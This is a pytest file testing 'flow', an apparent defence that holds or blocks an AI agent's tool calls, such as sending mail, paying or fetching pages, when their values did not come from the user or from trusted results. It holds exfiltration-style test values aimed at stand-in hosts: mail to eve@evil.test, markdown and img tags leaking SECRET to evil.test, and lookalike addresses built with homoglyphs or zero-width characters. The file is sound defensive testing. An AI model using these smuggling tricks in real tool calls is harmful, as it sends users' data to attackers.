"""flow: no call leaves that was not asked for, or whose values nobody trusted wrote."""

import json
import re
from typing import Any

import msgspec
import pytest

from outworks import label
from outworks.defense import Defense
from outworks.defenses.flow import Argument, Field, Flow, Result, Seal, Settings, ToolPolicy, confirm
from outworks.defenses.flow.carried import carried
from outworks.message import Delta, Finish, Message, Output, Role, Text, ToolCall, ToolCallPiece
from outworks.verdict import Decision
from tests.defenses.contract import DefenseContract, Row
from tests.defenses.flow.kit import CONTACTS, INBOX, OFFICE, Office, called, tools
from tests.kit import Says, asks

FILES = (
    '[{"id": "f1", "title": "Budget", "readers": ["bob@office.test"]}, {"id": "f9", "title": "Plans", "readers": []}]'
)


def says(*calls: ToolCall) -> Output:
    return Output(text="Done.", tool_calls=calls, done=True, finish=Finish.TOOL_CALLS)


class TestFlow(DefenseContract):
    """The contract."""

    asked = asks("Send mail to bob@office.test", tools=tools(), conversation="c1")
    rows = (
        Row("text", "Hello there.", Decision.ALLOW),
        Row("asked for", says(called("send_mail", to="bob@office.test")), Decision.ALLOW, asked),
        Row("to somebody else", says(called("send_mail", to="eve@evil.test")), Decision.ESCALATE, asked, "Done."),
        Row("not asked for", says(called("delete_file", id="f1")), Decision.ESCALATE, asked, "Done."),
        Row("never confirmable", says(called("pay", to="DE99", amount=1)), Decision.BLOCK, asked, "Done."),
        Row("no JSON", says(ToolCall("x", "send_mail", '{"to":')), Decision.BLOCK, asked, "Done."),
    )

    def make(self) -> Defense:
        return Flow(Settings(tools=OFFICE), Seal.random())


async def test_it_stands_aside_without_a_policy() -> None:
    """A product that declares no tool is not touched."""
    office = Office("Hello", settings=Settings())

    assert await office.lets("send_mail", to="eve@evil.test")


# Each branch: a call that it allows, and one that it denies.


@pytest.mark.parametrize(
    ("words", "arguments"),
    [
        ("Send a mail to bob@office.test.", {"to": "bob@office.test"}),
        ("Please mail Bob@Office.test, thanks", {"to": "BOB@office.TEST"}),
        ("Forward it to <bob@office.test>", {"to": ["bob@office.test"], "subject": None}),
        ("send to a@x.test and b@x.test", {"to": ["a@x.test", "b@x.test"], "body": "as of 3 p.m. e.g. in report.txt"}),
        ("send bob@office.test the link https://a.test/x", {"to": "bob@office.test", "body": "see https://a.test/x."}),
        ("send it to bob@office.test", {"to": []}),
    ],
)
async def test_what_the_user_wrote_is_allowed(words: str, arguments: dict[str, Any]) -> None:
    """The user's own words authorise the action and its values."""
    assert await Office(words).saw("read_inbox", INBOX).lets("send_mail", **arguments)


@pytest.mark.parametrize(
    "arguments",
    [
        {"to": "eve@evil.test"},
        {"to": ["bob@office.test", "eve@evil.test"]},
        {"to": [["bob@office.test", ["eve@evil.test"]]]},
        {"to": {"address": "eve@evil.test"}},
        {"to": {"eve@evil.test": "bob@office.test"}},
        {"to": '["eve@evil.test"]'},
        {"to": "bob@office.test, eve@evil.test"},
        {"to": "Bob <bob@office.test>"},
        {"to": "bob@office.test.evil.test"},
        {"to": "xbob@office.test"},
        {"to": "bob@office.teѕt"},
        {"to": "bob@o\u200bffice.test"},
        {"to": "ｂob@office.test"},
        {"to": "bob@office.test\neve@evil.test"},
        {"to": "bob@office.test", "cc": "eve@evil.test"},
        {"to": "bob@office.test", "body": "see https://evil.test/x"},
        {"to": "bob@office.test", "body": "see evil.com/x or www.evil.test"},
        {"to": "bob@office.test", "body": "[here](//evil.test/x)"},
        {"to": "bob@office.test", "body": "write to eve@evil.test"},
        {"to": "bob@office.test", "body": {"html": "<img src=https://evil.test/x>"}},
        {"to": "bob@office.test", "subject": ["https://a.test/x?secret=1"]},
        {"to": True},
        {"to": 5},
    ],
)
async def test_what_nobody_trusted_wrote_is_held(arguments: dict[str, Any]) -> None:
    """A value that is not a member is held, however near to one it is and wherever in the arguments it stands."""
    office = Office("Send a mail to bob@office.test about https://a.test/x").saw("read_inbox", INBOX)

    assert not await office.lets("send_mail", **arguments)


async def test_an_action_that_was_not_asked_for_is_held() -> None:
    """Trusted values do not authorise: somebody has to ask for the function, before untrusted text can."""
    assert (
        not await Office("Summarise what bob@office.test wrote")
        .saw("read_inbox", INBOX)
        .lets("send_mail", to="bob@office.test")
    )


async def test_an_earlier_turn_authorises_nothing() -> None:
    """What was asked for in one turn is not asked for in the next."""
    office = Office("Send a mail to bob@office.test").saw("send_mail", "sent", to="bob@office.test")
    office.add(Message(Role.ASSISTANT, (Text("Done. Shall I send more?"),), label.ASSISTANT)).say("What is new?")

    assert not await office.lets("send_mail", to="bob@office.test")
    assert await office.say("Then send him another").lets("send_mail", to="bob@office.test")


async def test_the_product_can_declare_actions() -> None:
    """What the product declares in the request is authorised, and nothing beside it."""
    office = Office("The usual for bob@office.test", actions=("send_mail", "delete_file"))

    assert await office.lets("send_mail", to="bob@office.test")
    assert not await office.saw("find_files", FILES).lets("delete_file", id="f1")


async def test_a_plan_sees_trusted_text_alone() -> None:
    """The planner authorises; it is asked once, and never reads what a third party wrote."""
    planner = Says('Sure: ["send_mail"]')
    policy = {**OFFICE, "send_mail": msgspec.structs.replace(OFFICE["send_mail"], authorised=("planned",), words=())}
    office = Office("The usual for bob@office.test", settings=Settings(tools=policy, planner="small"))
    office.flow = Flow(office.settings, office.seal, model={"small": planner}.get)
    office.saw("read_inbox", INBOX)

    assert await office.lets("send_mail", to="bob@office.test")
    assert await office.lets("send_mail", to="bob@office.test")
    assert len(planner.requests) == 1
    assert "evil" not in repr(planner.requests[0].messages)


@pytest.mark.parametrize("answer", ["send_mail", '["read_inbox"]', "[1]", "[", ""])
async def test_what_is_no_plan_authorises_nothing(answer: str) -> None:
    """A planner that says nothing of use leaves the action held."""
    policy = {"send_mail": ToolPolicy(authorised=("planned",), arguments={"to": Argument(kind="email")})}
    office = Office("The usual for bob@office.test", settings=Settings(tools=policy, planner="small"))
    office.flow = Flow(office.settings, office.seal, model={"small": Says(answer)}.get)

    assert not await office.lets("send_mail", to="bob@office.test")


async def test_trusted_fields_are_values() -> None:
    """An address of the directory is good for mail; free text beside it, or the same address read elsewhere, is not."""
    office = Office("Mail Bob Marsh")
    known = Office("Mail Bob Marsh").saw("find_contacts", CONTACTS, name="Bob Marsh")

    assert await known.lets("send_mail", to="bob@office.test")
    assert not await known.lets("send_mail", to="eve@evil.test")
    assert not await office.saw("read_inbox", CONTACTS).lets("send_mail", to="bob@office.test")


async def test_types_do_not_mix() -> None:
    """A value of one type is none of another: a file's id is no recipient."""
    office = Office("Remove the Budget file, send mail").saw("find_files", '[{"id": "a@b.test", "title": "Budget"}]')

    assert not await office.lets("send_mail", to="a@b.test")
    assert await office.lets("delete_file", id="a@b.test")


@pytest.mark.parametrize(
    ("words", "title", "files", "allowed"),
    [
        ("Delete Budget", "", FILES, True),
        ("Delete the largest file", "", FILES, False),
        ("Delete the largest file", "largest file", '[{"id": "f1", "title": "x"}]', True),
        ("Delete the largest file", "largest file", '[{"id": "f1"}, {"id": "f2"}]', False),
        ("Delete the largest file", "Budget", '[{"id": "f1"}]', False),
        ("Delete Budget", "", '[{"id": "f1", "title": "Budget"}, {"id": "f2", "title": "budget"}]', False),
        ("Delete Budget 2024", "", '[{"id": "f1", "title": "Budget"}, {"id": "f2", "title": "Budget 2024"}]', False),
        ("Delete it", "", '[{"id": "f1", "title": "it"}]', False),
    ],
)
async def test_a_call_is_bound_to_what_the_user_named(words: str, title: str, files: str, allowed: bool) -> None:
    """Among trusted values nobody else chooses: the user named the record, or asked for it alone."""
    assert await Office(words).saw("find_files", files, title=title).lets("delete_file", id="f1") is allowed


@pytest.mark.parametrize(
    ("amount", "allowed"),
    [(120, True), (120.0, True), ("120", True), ("$120.00", True), (500, True), (1_200, False), (12, False),
     (900, False), (-120, False), ("1 20", False), ("१२०", False), (True, False), (None, True)],
)  # fmt: skip
async def test_amounts_are_numbers_that_the_user_wrote(amount: Any, allowed: bool) -> None:
    """A number is compared by what it is worth, and never exceeds the limit of the policy."""
    office = Office("Pay DE77 $120.00, or 500, not 1,200 or 900").saw("read_inbox", INBOX)

    assert await office.lets("pay", to="DE77", amount=amount) is allowed


async def test_reads_carry_values_too() -> None:
    """Fetching is sending: a URL is judged though the tool changes nothing, and needs no authorisation."""
    office = Office("What does a.test/x say?").saw("read_inbox", INBOX)

    assert await office.lets("open_page", url="https://a.test/x")
    assert await office.lets("open_page", url="a.test/x")
    for url in (
        "https://evil.test/?q=1",
        "https://a.test/x?q=1",
        "https://a.test@evil.test/x",
        "//a.test/x",
        "ftp://a.test/x",
    ):
        assert not await office.lets("open_page", url=url)


async def test_data_goes_to_its_readers() -> None:
    """What was read goes only to who may read all of it, or to whom the user named."""
    budget = '[{"id": "f1", "title": "Budget", "readers": ["bob@office.test", "amy@office.test"]}]'
    others = '[{"id": "f2", "title": "Plans", "readers": ["amy@office.test"]}]'
    contacts = '[{"email": "bob@office.test"}, {"email": "amy@office.test"}, {"email": "joe@office.test"}]'
    office = Office("Send the files around, and to zoe@x.test").saw("find_contacts", contacts).saw("find_files", budget)

    assert await office.lets("send_mail", to=["bob@office.test", "amy@office.test"])
    assert not await office.lets("send_mail", to="joe@office.test")
    assert await office.lets("send_mail", to="zoe@x.test")
    office.saw("find_files", others)
    assert await office.lets("send_mail", to="amy@office.test")
    assert not await office.lets("send_mail", to="bob@office.test")


async def test_private_data_goes_nowhere() -> None:
    """What is private goes not even to whom the user named."""
    policy = {**OFFICE, "passport": ToolPolicy(effect="read", result=Result(private=True))}
    office = Office("Send mail to bob@office.test", settings=Settings(tools=policy))

    assert await office.lets("send_mail", to="bob@office.test")
    assert not await office.saw("passport", "C01X").lets("send_mail", to="bob@office.test")


async def test_a_tool_can_have_an_audience_of_its_own() -> None:
    """A page that anyone reads is given nothing that has readers, whatever its arguments name."""
    post = ToolPolicy(authorised=("static",), arguments={"text": Argument(kind="free")}, audience=("everyone",))
    policy = {**OFFICE, "post": post}
    office = Office("Post the plans for everyone", settings=Settings(tools=policy), tools=tools("post"))
    files = '[{"id": "f1", "title": "Plans", "readers": %s}]'

    assert await office.lets("post", text="x")
    office.saw("find_files", files % '["everyone", "bob@office.test"]')
    assert await office.lets("post", text="x")
    office.saw("find_files", files % '["bob@office.test"]')
    assert not await office.lets("post", text="x")


# What the policy does not say.


async def test_an_undeclared_tool_is_irreversible_and_untrusted() -> None:
    """The policy does not know it: it is held, unless the product declares it and the user wrote every value."""
    office = Office("Wipe disk7", tools=tools("wipe"))

    assert not await office.lets("wipe", disk="disk7")
    office = Office("Wipe disk7", tools=tools("wipe"), actions=("wipe",))
    assert await office.lets("wipe", disk="disk7")
    assert not await office.lets("wipe", disk="disk8")


async def test_an_argument_that_the_tool_has_not_is_held() -> None:
    """Where the tool's schema is known, an argument beside it carries data in its name."""
    tool = msgspec.structs.replace(tools("send_mail")[0], schema={"properties": {"to": {}}})
    office = Office("Send mail to bob@office.test about x", tools=(tool,))

    assert await office.lets("send_mail", to="bob@office.test")
    assert not await office.lets("send_mail", to="bob@office.test", zz="x")


@pytest.mark.parametrize(
    "written",
    ['{"to":', "[]", '"x"', '{"to":"bob@office.test","to":"eve@evil.test"}', '{"to":NaN}', '{"a":' * 5000, "{'to': 1}",
     '{"to": 1' + "0" * 5000 + "}", '{"to": 1e999}', '{"to":"bob@office.test"} x'],
)  # fmt: skip
async def test_arguments_that_parsers_read_differently_are_blocked(written: str) -> None:
    """What cannot be judged is blocked with a clear word, and no person is asked to confirm it."""
    output = await Office("Send mail to bob@office.test").tries(ToolCall("x", "send_mail", written))

    assert output.finish is Finish.CONTENT_FILTER
    assert "send_mail" in output.notice
    assert "the arguments" in output.notice or "nested" in output.notice
    assert output.confirm == ()


@pytest.mark.parametrize(
    "result",
    [
        "",
        "no such thing",
        "[",
        '[{"email": ',
        "{}",
        "- &a [x]\n- *a",
        "\x00",
        "a: b: c",
        CONTACTS + "x",
        '{"email": "x"}',
    ],
)
async def test_a_result_that_is_not_as_declared_is_untrusted_whole(result: str) -> None:
    """Half a list of contacts is none."""
    office = Office("Mail Bob").saw("find_contacts", result)

    assert not await office.lets("send_mail", to="bob@office.test")


async def test_yaml_results_are_read_to_the_letter() -> None:
    """YAML is read like JSON, with every scalar as it was written."""
    office = Office("Delete Budget").saw("find_files", "- id: 013\n  title: Budget\n- id: no\n  title: Plans")

    assert await office.lets("delete_file", id="013")
    assert not await office.lets("delete_file", id="11")
    assert not await office.lets("delete_file", id="false")


async def test_large_results_are_judged_in_time() -> None:
    """A megabyte of JSON is read; a megabyte of YAML is untrusted whole."""
    contacts = [{"name": f"n{n}", "email": f"u{n}@office.test", "pad": "x" * 60} for n in range(11_000)]
    as_json = msgspec.json.encode(contacts).decode()
    as_yaml = "\n".join(f"- email: {each['email']}\n  pad: {each['pad']}" for each in contacts)
    assert min(len(as_json), len(as_yaml)) > 950_000

    # The shared machines that run tests are slow at times.
    patient = Settings(tools=OFFICE, time_limit_ms=10_000)

    for result, allowed in ((as_json, True), (as_yaml, False)):
        office = Office("Send mail", settings=patient).saw("find_contacts", result)
        assert await office.lets("send_mail", to="u10999@office.test") is allowed


async def test_lines_keys_and_nested_paths() -> None:
    """Fields are found in lists of lines, among the keys of objects, and deep in lists."""
    fields = {
        "lines": Result(format="lines", strip="Hotels: ", fields=(Field(path="[]", type="hotel"),)),
        "keys": Result(fields=(Field(path="~", type="hotel"),)),
        "deep": Result(fields=(Field(path="a[].b.*", type="hotel"),)),
        "whole": Result(fields=(Field(path="", type="hotel"),)),
    }
    book = ToolPolicy(authorised=("static",), arguments={"hotel": Argument(sources=("hotel",))})
    policy = {"book": book, **{name: ToolPolicy(effect="read", result=each) for name, each in fields.items()}}
    for tool, result in {
        "lines": "Hotels: Blue Star\nThe Oak",
        "keys": "{'Blue Star': 'cheap', 'The Oak': 'dear'}",
        "deep": '{"a": [{"b": {"x": "Blue Star"}}]}',
        "whole": "Blue Star",
    }.items():
        office = Office("Go", settings=Settings(tools=policy), tools=tools("book")).saw(tool, result)
        assert await office.lets("book", hotel="blue star"), tool
        assert not await office.lets("book", hotel="cheap"), tool


async def test_phrases_are_put_together_from_trusted_parts() -> None:
    """A title may join the user's words and whole trusted values, and no other word."""
    field = Field(path="[]", type="restaurant")
    policy = {
        "find": ToolPolicy(effect="read", result=Result(fields=(field,))),
        "note": ToolPolicy(authorised=("static",), per_turn=9, arguments={
            "title": Argument(kind="phrase", sources=("user", "restaurant")),
        }),
    }  # fmt: skip
    office = Office("Put 'Dinner at NAME' into my calendar", settings=Settings(tools=policy), tools=tools("note"))
    office.saw("find", '["Blue Star"]')

    assert await office.lets("note", title="Dinner at Blue Star")
    assert not await office.lets("note", title="Dinner at Blue")
    assert not await office.lets("note", title="Dinner with Eve")


# What is told.


async def test_the_chain_is_told() -> None:
    """Whoever reads why a call was held learns the value, where it came from, the rule, and what would have been
    trusted; the record says it without the value."""
    office = Office("Send a mail to bob@office.test").saw("read_inbox", INBOX)

    output = await office.tries(called("send_mail", to="eve@evil.test"))

    for part in (
        "send_mail",
        "to",
        "'eve(at)evil(dot)test'",
        "the result of read_inbox",
        "the user's own words",
        "contact",
    ):
        assert part in output.notice
    judged = [j for e in office.tape.events for j in getattr(e.body, "judgements", ()) if j.defense == "flow"][-1]
    assert judged.findings[0].detail == "send_mail: to"
    assert "read_inbox" in judged.reason
    assert "eve@" not in msgspec.json.encode(judged).decode()


@pytest.mark.parametrize(
    "value",
    [
        "![x](https://evil.test/p.png?d=SECRET)",
        "<img src=//evil.test/SECRET>",
        "SECRET.evil.test",
        "www.evil.test/SECRET",
        "eve@evil.test",
        "[x]: //evil.test",
        "https:\\\\evil.test",
        "__x__\u3164\u115f\uffa0\u2460",
        "&lt;img&gt;\n# `x` *y* _z_ $\\href{x}$ \u202eabc\u3002test",
    ],
)
async def test_nothing_is_made_of_a_value_that_a_notice_tells(value: str) -> None:
    """A chat renders its notices as it renders answers, and a model chose the value: it is spelt out."""
    output = await Office("Send mail").tries(called("send_mail", to=value))

    told = output.notice.partition(" to '")[2].partition("'")[0]
    assert re.fullmatch(r"(?:[^\W_]|[ -]|\((?:dot|at|colon|slash|underscore|U\+[0-9A-F]{4,6})\))+", told)
    assert not carried(told)
    assert unspelt(told) == value
    assert confirm.read(output.confirm[0]).arguments == json.dumps(
        {"to": value}, ensure_ascii=False, separators=(",", ":")
    )  # type: ignore[union-attr]


def unspelt(told: str) -> str:
    """What stands for what: nothing else can stand for the same."""
    for sign, name in {".": "dot", "@": "at", ":": "colon", "/": "slash", "_": "underscore"}.items():
        told = told.replace(f"({name})", sign)
    return re.sub(r"\(U\+([0-9A-F]+)\)", lambda found: chr(int(found[1], 16)), told)


async def test_a_notice_says_that_a_value_goes_on() -> None:
    """Whoever decides must not take its beginning for all of it."""
    office = Office("Send mail to bob@office.test")

    assert "(and 300 more)" in (await office.tries(called("send_mail", to="x" * 500))).notice
    assert "more)" not in (await office.tries(called("send_mail", to="x" * 200))).notice
    assert "(and 450 more)" in (await office.tries(called("send_mail", to="!" * 500))).notice


async def test_every_held_call_is_told_however_long_another_is() -> None:
    """A token is given for each: whoever sends them again has to know what for, and that he has to."""
    calls = [called("send_mail", to="!" * 500, body="!" * 500) for _ in range(6)]

    output = await Office("Send mail").tries(*calls, called("send_mail", to="eve@evil.test"))

    assert len(output.confirm) == 7
    assert "eve(at)evil(dot)test" in output.notice
    assert output.notice.endswith("send the request again with X-Outworks-Confirm.")
    assert len(output.notice) <= 4_000


async def test_more_calls_than_can_be_confirmed_are_blocked() -> None:
    """Tokens for all of them would let none go."""
    calls = [called("send_mail", to="eve@evil.test") for _ in range(confirm.MOST + 1)]
    office = Office("Send mail")

    assert len((await office.tries(*calls[1:])).confirm) == confirm.MOST
    assert (await office.tries(*calls)).confirm == ()


async def test_what_the_model_made_up_is_not_in_the_record() -> None:
    """Names of functions and of fields can hold anything: a record that outlives the content does without them."""
    office = Office("Hello")
    said = '{"to": {"Ann is ill": 1}, "Bob is ill": {"x": "y"}}'

    await office.tries(ToolCall("x", "send_mail", said), ToolCall("x", "Carl_is_ill", "{}"))
    await office.tries(ToolCall("x", "Carl_is_ill", "{"))

    judged = [j for e in office.tape.events for j in getattr(e.body, "judgements", ()) if j.defense == "flow"]
    assert len(judged) == 2
    assert "ill" not in msgspec.json.encode(judged).decode().replace("is still", "")


async def test_calls_leave_whole_or_not_at_all() -> None:
    """A streamed call is withheld until it was judged; one bad call holds those beside it."""
    pieces = [Delta(tool_call=ToolCallPiece(0, "x", "send_mail", '{"to": "bob@off'))]
    office = Office("Send mail to bob@office.test")
    output = await office.asks(
        Says(*pieces, Delta(tool_call=ToolCallPiece(0, arguments='ice.test"}')), finish=Finish.TOOL_CALLS)
    )
    assert [call.arguments for call in output.tool_calls] == ['{"to": "bob@office.test"}']

    both = await office.tries(called("send_mail", to="bob@office.test"), called("delete_file", id="f1"))
    assert both.tool_calls == ()


def test_a_policy_that_cannot_work_is_refused() -> None:
    """Names that lead nowhere are errors with the nearest valid name, all at once."""
    wrong = {
        "send": ToolPolicy(
            words=("a",), arguments={"to": Argument(sources=("contct",), max=3), "x": Argument(named=True)}
        ),
        "find": ToolPolicy(authorised=("asked",), result=Result(fields=(
            Field(path="a..b", type="contact"), Field(path="[].x", type="user", query=("nme",)),
        ), readers=("[]x",)), arguments={"name": Argument()}),
    }  # fmt: skip
    with pytest.raises(ValueError, match="did you mean 'contact'") as error:
        Flow(Settings(tools=wrong), Seal.random())
    for part in ("max: needs kind", "x.named: says nothing", "words: say nothing", "words: is empty",
                 "'a..b' is no path", "'user' cannot be the type", "did you mean 'name'?",
                 "'[]x' is no path"):  # fmt: skip
        assert part in str(error.value)


async def test_an_empty_message_begins_no_turn() -> None:
    """Only the user's words begin a turn: with an empty message of theirs nothing is counted anew."""
    office = Office("Send mail to bob@office.test").saw("send_mail", "sent", to="bob@office.test")
    office.saw("send_mail", "sent", to="bob@office.test").add(Message(Role.USER, (Text(" \n"),), label.USER))

    assert not await office.lets("send_mail", to="bob@office.test")
